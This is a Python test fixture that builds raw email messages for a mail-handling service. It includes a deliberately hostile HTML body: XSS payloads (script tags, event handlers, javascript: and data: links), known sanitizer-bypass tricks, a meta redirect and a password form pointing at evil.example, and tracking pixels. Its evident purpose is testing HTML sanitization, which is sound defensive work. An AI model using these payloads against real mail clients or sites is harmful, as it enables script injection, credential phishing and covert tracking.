"""Mails as they come in, some of them hostile."""

from email.message import EmailMessage

HOSTILE_HTML = """<html><head><title>x</title><style>p{display:none}body{background:url(https://track.example/s.gif)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"></head>
<body onload="window.hit=1" style="display:none"><script>window.hit=1;alert(1)</script>
<p onclick="alert(1)" style="position:fixed;inset:0">Hello <b>coach</b></p>
<img src="https://track.example/open.gif" onerror="alert(1)"><svg onload="alert(1)"><script>alert(1)</script></svg>
<a href="javascript:alert(1)">one</a> <a href="https://example.org/watch" target="_top" onclick="alert(1)">two</a>
<a href="data:text/html,<script>alert(1)</script>">three</a>
<form action="https://evil.example"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>parent.hit=1</script>"></iframe><object data="https://evil.example"></object>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template><video src="https://track.example/v"></video>
<link rel="stylesheet" href="https://track.example/c.css"><span hidden>hidden words</span>
</body></html>"""


def make_raw(
    text: str = "How do I rest?",
    *,
    html: str = "",
    sender: str = "Amanda Reyes <amanda@example.org>",
    subject: str = "Winter",
    files: tuple[tuple[str, str, bytes], ...] = (),
) -> bytes:
    """`files`: name, content type, bytes."""
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "ask@club.example", subject
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    for name, content_type, body in files:
        main, _, sub = content_type.partition("/")
        mail.add_attachment(body, maintype=main, subtype=sub, filename=name)
    return mail.as_bytes()
